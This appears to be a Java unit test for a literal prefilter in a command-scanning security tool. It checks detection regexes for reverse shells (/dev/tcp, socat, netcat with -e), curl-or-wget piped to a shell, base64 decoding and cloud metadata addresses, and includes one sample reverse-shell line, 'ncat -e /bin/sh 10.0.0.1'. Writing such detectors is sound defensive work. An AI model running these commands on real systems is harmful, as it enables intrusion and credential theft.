package dev.cronsentinel.prefilter;

import dev.cronsentinel.score.RuleSet;
import dev.cronsentinel.score.RuleSetLoader;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.google.re2j.Pattern;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.SplittableRandom;
import java.util.regex.Matcher;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * The literal prefilter may skip a pattern only when the pattern cannot match. Checked two ways: the literal
 * sets read off known patterns, and a randomized search (seeded, so reproducible) for a text that the pattern
 * matches but the prefilter rejects, over every shipped rule pattern and a set of awkward syntax.
 */
class LiteralPrefilterTest {

    @Test
    void readsTheRequiredLiteralsOfTheShippedRules() {
        assertEquals(List.of("/dev/tcp/", "/dev/udp/"), LiteralPrefilter.of("/dev/(tcp|udp)/").literals());
        assertEquals(List.of("socat"), LiteralPrefilter.of("\\bsocat\\b").literals());
        assertEquals(List.of("mkfifo", "mknod"), LiteralPrefilter.of("\\bmkfifo\\b|\\bmknod\\b[^;&|]*\\sp\\b").literals());
        assertEquals(List.of("curl", "wget"),
                LiteralPrefilter.of("\\b(curl|wget)\\b[^;&|]*\\|\\s*(sudo\\s+)?(/usr)?(/bin/)?((ba|z|da|k)?sh|python[0-9.]*|perl)\\b").literals());
        assertEquals(List.of("base64"), LiteralPrefilter.of("base64\\s+(-d|--decode|-D)\\b").literals());
        assertEquals(List.of("169.254.169.254", "metadata.google.internal", "100.100.100.200"),
                LiteralPrefilter.of("169\\.254\\.169\\.254|metadata\\.google\\.internal|100\\.100\\.100\\.200").literals());
        // Optional parts require nothing; the mandatory "sh" does.
        assertEquals(List.of("sh"), LiteralPrefilter.of("^\\s*(/usr)?(/bin/)?(ba|da|z|k|a)?sh\\s+-[a-zA-Z]*c\\b").literals());
        // Repetition with a minimum keeps the atom's requirement.
        assertEquals(List.of("ab"), LiteralPrefilter.of("x*(ab)+y?").literals());
        assertEquals(List.of("ab"), LiteralPrefilter.of("(?:ab){2,5}").literals());
    }

    @ParameterizedTest
    @ValueSource(strings = {"(?i)curl", "a(?i:curl)", "\\Qcurl\\E", "\\x41bc", "\\p{Greek}x", "[[:alpha:]]x", ".*", "a?b?",
        "[^x]+", "\\w+", "(a|)", "x*"})
    void knowsNothingAboutWhatItCannotModel(String pattern) {
        assertTrue(LiteralPrefilter.of(pattern).literals().isEmpty(), pattern);
        assertTrue(LiteralPrefilter.of(pattern).mightMatch(""));
    }

    @Test
    void skipsOnlyWhatCannotMatch() {
        LiteralPrefilter p = LiteralPrefilter.of("\\b(nc|ncat|netcat)(\\.[a-z]+)?\\b[^|;&]*\\s(-[a-zA-Z]*[ec]\\b|--(sh-)?exec\\b)");
        // "ncat" contains "nc" and is dropped; "netcat" does not, so it stays.
        assertEquals(List.of("nc", "netcat"), p.literals());
        assertFalse(p.mightMatch("/app/bin/run --job x"));
        assertTrue(p.mightMatch("ncat -e /bin/sh 10.0.0.1"));
    }

    /** Every pattern of every shipped rule file, and awkward syntax the rule files may grow into. */
    static List<String> patterns() {
        List<String> out = new ArrayList<>();
        RuleSet rules = RuleSetLoader.load(Path.of("conf/rules/default.yaml"));
        rules.imageRules().forEach(r -> out.add(r.pattern()));
        rules.commandRules().forEach(r -> out.add(r.pattern()));
        rules.allowlists().forEach(a -> {
            for (String s : new String[] {a.namespace(), a.actor()}) {
                if (s != null) {
                    out.add(s);
                }
            }
        });
        out.addAll(List.of("a{2}b", "a{,2}b", "x{1,}y", "(?s:a.b)", "(?m)^ab$", "[a-c]{2}d", "[-a]b", "[a-]b", "[]a]b",
                "(?P<n>ab|cd)e", "ab|", "(ab)?(cd)?", "a+?b", "\\.\\*\\+", "[\\d]x", "[\\s;]sh", "a\\tb", "\\bx\\B",
                "é+ü", "(x|y)(p|q)(r|s)(t|u)(v|w)(1|2)(3|4)", "(a|b|c|d|e|f|g|h)(a|b|c|d|e|f|g|h)(a|b|c|d|e|f|g|h)z"));
        return out;
    }

    @Test
    void neverSkipsAPatternThatMatches() {
        SplittableRandom random = new SplittableRandom(20261123);
        int matchedPatterns = 0;
        for (String pattern : patterns()) {
            Pattern re = Pattern.compile(pattern);
            LiteralPrefilter pre = LiteralPrefilter.of(pattern);
            List<String> pieces = pieces(pattern);
            int matches = 0;
            for (int i = 0; i < 20_000; i++) {
                String text = text(random, pieces);
                boolean found = re.matcher(text).find();
                if (found) {
                    matches++;
                    assertTrue(pre.mightMatch(text), () -> pattern + " (" + pre + ") skipped a match: " + text);
                }
            }
            if (matches > 0) {
                matchedPatterns++;
            }
        }
        // The search must actually produce matches, or it proves nothing. Two thirds, not all: rules that need
        // a long ordered sequence (download-then-run, opaque-shell-script) are rarely hit by up to 8 random pieces.
        assertTrue(matchedPatterns >= patterns().size() * 2 / 3, "matched " + matchedPatterns + " of " + patterns().size());
    }

    /** Fragments of the pattern's own text (literal runs, single characters) and separators to build texts from. */
    private static List<String> pieces(String pattern) {
        Set<String> out = new LinkedHashSet<>();
        Matcher m = java.util.regex.Pattern.compile("[A-Za-z0-9_.:/+=-]+").matcher(pattern.replace("\\.", ".").replace("\\", ""));
        while (m.find()) {
            out.add(m.group());
            for (String part : m.group().split("[|()]")) {
                if (!part.isEmpty()) {
                    out.add(part);
                }
            }
        }
        for (char c : pattern.toCharArray()) {
            out.add(String.valueOf(c));
        }
        out.addAll(List.of(" ", " ", "\t", "-", "/", ";", "|", "&", "x", "1", "sh", "/bin/", " -c ", " -e ", "=", "é", "ü"));
        return new ArrayList<>(out);
    }

    private static String text(SplittableRandom random, List<String> pieces) {
        StringBuilder sb = new StringBuilder();
        int n = 1 + random.nextInt(8);
        for (int i = 0; i < n; i++) {
            sb.append(pieces.get(random.nextInt(pieces.size())));
        }
        return sb.toString();
    }
}
